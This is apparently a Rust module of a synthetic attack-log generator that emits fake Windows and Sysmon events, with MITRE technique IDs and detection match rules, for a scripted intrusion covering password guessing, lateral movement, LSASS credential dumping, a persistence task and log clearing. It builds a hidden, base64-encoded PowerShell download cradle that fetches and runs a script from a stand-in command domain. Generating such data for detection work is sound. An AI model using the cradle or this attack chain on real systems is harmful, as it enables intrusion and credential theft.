//! Phase 5: from the analyst's workstation to the file server and the jump host.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::{COMMAND_DOMAIN, COMMAND_IP, Condition, Story};
use crate::SourceKind;
use crate::sources::windows::{self, Kind, SCRIPT_BLOCK, SECURITY, SERVICE_INSTALLED, SYSMON};
use crate::stream::Stream;

/// The service account that is guessed.
pub(super) const ACCOUNT: &str = "svc_backup";
const ACCOUNT_SID: &str = "S-1-5-21-3623811015-3361044348-30300820-1012";
const FILE_SERVER_IP: &str = "10.10.2.20";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const DUMPER: &str = r"C:\ProgramData\Updater\updhelper.exe";
const TASK: &str = r"\Microsoft\Windows\UpdateHelper\Sync";

/// The SHA-256 of the program that reads passwords from memory.
pub(super) fn dumper_sha256() -> String {
    windows::image_sha256(DUMPER)
}

fn script() -> String {
    format!("IEX (New-Object Net.WebClient).DownloadString('https://{COMMAND_DOMAIN}/a')")
}

/// PowerShell's command line: the script in UTF-16 and base64.
fn encoded_command() -> String {
    let utf16: Vec<u8> = script().encode_utf16().flat_map(u16::to_le_bytes).collect();
    format!("powershell.exe -NoP -W Hidden -EncodedCommand {}", STANDARD.encode(utf16))
}

pub(super) fn tell(story: &mut Story) {
    guess(story);
    log_on(story);
    run(story);
    install(story);
    steal(story);
    stay_and_hide(story);
    look_up(story);
}

/// One step in Windows events.
struct Act<'a> {
    id: &'a str,
    title: &'a str,
    technique: &'a str,
    matches: &'a [(&'a str, Condition)],
    indicators: &'a [(&'a str, &'a str)],
}

fn step(story: &mut Story, act: Act<'_>) {
    let Act { id, title, technique, matches, indicators } = act;
    story.step(super::Scene { id, phase: 5, title, technique, source: SourceKind::WindowsEvent, matches, indicators });
}

/// Plants one event of the service account on a host, after `set` has filled in the rest.
fn event<'a>(story: &mut Story, at_ms: i64, kind: &Kind, host: &'a str, set: impl FnOnce(&mut windows::Scene<'a>)) {
    story.plant(Stream::Windows, at_ms, |out, dice, when| {
        let mut scene = windows::Scene::new(when, host, (ACCOUNT, ACCOUNT_SID));
        set(&mut scene);
        windows::write(out, dice, kind, &scene);
    });
}

fn guess(story: &mut Story) {
    let victim = story.victim();
    step(
        story,
        Act {
            id: "logon-failures",
            title: "The analyst's workstation tries passwords of a service account on two servers",
            technique: "T1110.001",
            matches: &[
                ("winlog.event_id", Condition::is("4625")),
                ("winlog.event_data.IpAddress", Condition::is(&victim.ip)),
                ("winlog.event_data.LogonType", Condition::is("3")),
            ],
            indicators: &[("users", ACCOUNT), ("hosts", &victim.workstation)],
        },
    );
    for (index, at_ms) in story.burst(story.timeline.at(30, 15, 2), 28, 4000).into_iter().enumerate() {
        event(story, at_ms, &SECURITY.logon_failed, ["FS01", "APP01"][index % 2], |scene| scene.peer = (&victim.workstation, &victim.ip));
    }
}

fn log_on(story: &mut Story) {
    let victim = story.victim();
    step(
        story,
        Act {
            id: "network-logon",
            title: "The service account logs on to the file server from a workstation",
            technique: "T1021.002",
            matches: &[
                ("winlog.event_id", Condition::is("4624")),
                ("winlog.event_data.TargetUserName", Condition::is(ACCOUNT)),
                ("winlog.event_data.IpAddress", Condition::is(&victim.ip)),
            ],
            indicators: &[("users", ACCOUNT), ("hosts", "FS01")],
        },
    );
    for at_ms in story.burst(story.timeline.at(30, 15, 8), 3, 20_000) {
        event(story, at_ms, &SECURITY.logon, "FS01", |scene| scene.peer = (&victim.workstation, &victim.ip));
    }
    step(
        story,
        Act {
            id: "remote-desktop",
            title: "From the file server the account goes on to the jump host by remote desktop",
            technique: "T1021.001",
            matches: &[("winlog.event_id", Condition::is("4624")), ("winlog.event_data.LogonType", Condition::is("10"))],
            indicators: &[("users", ACCOUNT), ("hosts", "JUMP01")],
        },
    );
    event(story, story.timeline.at(30, 16, 20), &SECURITY.logon, "JUMP01", |scene| {
        scene.peer = ("FS01", FILE_SERVER_IP);
        scene.logon_type = 10;
    });
}

fn run(story: &mut Story) {
    step(
        story,
        Act {
            id: "encoded-powershell",
            title: "PowerShell is started with an encoded command",
            technique: "T1059.001",
            matches: &[
                ("winlog.event_id", Condition::AnyOf(vec!["1".to_owned(), "4688".to_owned()])),
                ("winlog.event_data.CommandLine", Condition::Contains("-EncodedCommand".to_owned())),
            ],
            indicators: &[("hosts", "FS01"), ("domains", COMMAND_DOMAIN)],
        },
    );
    let command = encoded_command();
    for (at_ms, kind) in [(0, &SECURITY.process), (11, &SYSMON.process), (1_800_000, &SECURITY.process), (1_800_009, &SYSMON.process)] {
        let at_ms = story.timeline.at(31, 9, 31) + at_ms;
        event(story, at_ms, kind, "FS01", |scene| {
            (scene.image, scene.parent, scene.command) = (POWERSHELL, r"C:\Windows\System32\services.exe", &command);
        });
    }
    step(
        story,
        Act {
            id: "download-cradle",
            title: "The script fetches more from the command server",
            technique: "T1059.001",
            matches: &[
                ("winlog.event_id", Condition::is("4104")),
                ("winlog.event_data.ScriptBlockText", Condition::Contains(COMMAND_DOMAIN.to_owned())),
            ],
            indicators: &[("hosts", "FS01"), ("domains", COMMAND_DOMAIN)],
        },
    );
    let script = script();
    for at_ms in [700, 1_800_600] {
        event(story, story.timeline.at(31, 9, 31) + at_ms, &SCRIPT_BLOCK, "FS01", |scene| (scene.target, scene.detail) = ("", &script));
    }
}

fn install(story: &mut Story) {
    step(
        story,
        Act {
            id: "service-installed",
            title: "A service is installed on the file server",
            technique: "T1543.003",
            matches: &[("winlog.event_id", Condition::is("7045")), ("winlog.event_data.ServiceName", Condition::is("WinUpdateHelper"))],
            indicators: &[("hosts", "FS01"), ("files", DUMPER)],
        },
    );
    event(story, story.timeline.at(31, 10, 15), &SERVICE_INSTALLED, "FS01", |scene| {
        (scene.target, scene.detail) = ("WinUpdateHelper", DUMPER);
    });
}

fn steal(story: &mut Story) {
    step(
        story,
        Act {
            id: "lsass-read",
            title: "A program reads passwords from the memory of lsass.exe",
            technique: "T1003.001",
            matches: &[
                ("winlog.event_id", Condition::is("10")),
                ("winlog.event_data.TargetImage", Condition::EndsWith(r"\lsass.exe".to_owned())),
            ],
            indicators: &[("hosts", "FS01"), ("files", DUMPER)],
        },
    );
    for at_ms in story.burst(story.timeline.at(31, 10, 22), 2, 9000) {
        event(story, at_ms, &SYSMON.access, "FS01", |scene| {
            (scene.image, scene.target, scene.detail) = (DUMPER, r"C:\Windows\System32\lsass.exe", "0x1010");
        });
    }
    let sha256 = dumper_sha256();
    step(
        story,
        Act {
            id: "dumper-started",
            title: "The program is seen with its hash",
            technique: "T1003.001",
            matches: &[("winlog.event_id", Condition::is("1")), ("winlog.event_data.Image", Condition::is(DUMPER))],
            indicators: &[("hosts", "FS01"), ("files", DUMPER), ("hashes", &sha256)],
        },
    );
    event(story, story.timeline.at(31, 10, 21), &SYSMON.process, "FS01", |scene| {
        (scene.image, scene.parent, scene.command) = (DUMPER, r"C:\Windows\System32\services.exe", DUMPER);
    });
}

fn stay_and_hide(story: &mut Story) {
    step(
        story,
        Act {
            id: "scheduled-task",
            title: "A scheduled task brings it back every hour",
            technique: "T1053.005",
            matches: &[("winlog.event_id", Condition::is("4698")), ("winlog.event_data.TaskName", Condition::is(TASK))],
            indicators: &[("hosts", "FS01"), ("files", DUMPER)],
        },
    );
    let content = format!(
        "<Task><Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec><Command>{DUMPER}</Command></Exec></Actions></Task>"
    );
    event(story, story.timeline.at(31, 10, 40), &SECURITY.task_created, "FS01", |scene| (scene.target, scene.detail) = (TASK, &content));
    step(
        story,
        Act {
            id: "log-cleared",
            title: "The security log of the file server is cleared",
            technique: "T1070.001",
            matches: &[("winlog.event_id", Condition::is("1102"))],
            indicators: &[("hosts", "FS01"), ("users", ACCOUNT)],
        },
    );
    event(story, story.timeline.at(31, 11, 58), &SECURITY.cleared, "FS01", |_| {});
}

fn look_up(story: &mut Story) {
    step(
        story,
        Act {
            id: "command-server-lookup",
            title: "The file server looks up the command server",
            technique: "T1071.004",
            matches: &[("winlog.event_id", Condition::is("22")), ("winlog.event_data.QueryName", Condition::is(COMMAND_DOMAIN))],
            indicators: &[("hosts", "FS01"), ("domains", COMMAND_DOMAIN)],
        },
    );
    for day in [33, 35, 37, 39, 41] {
        event(story, story.timeline.at(day, 12, 1), &SYSMON.dns, "FS01", |scene| {
            (scene.image, scene.target, scene.detail) = (DUMPER, COMMAND_DOMAIN, COMMAND_IP);
        });
    }
}
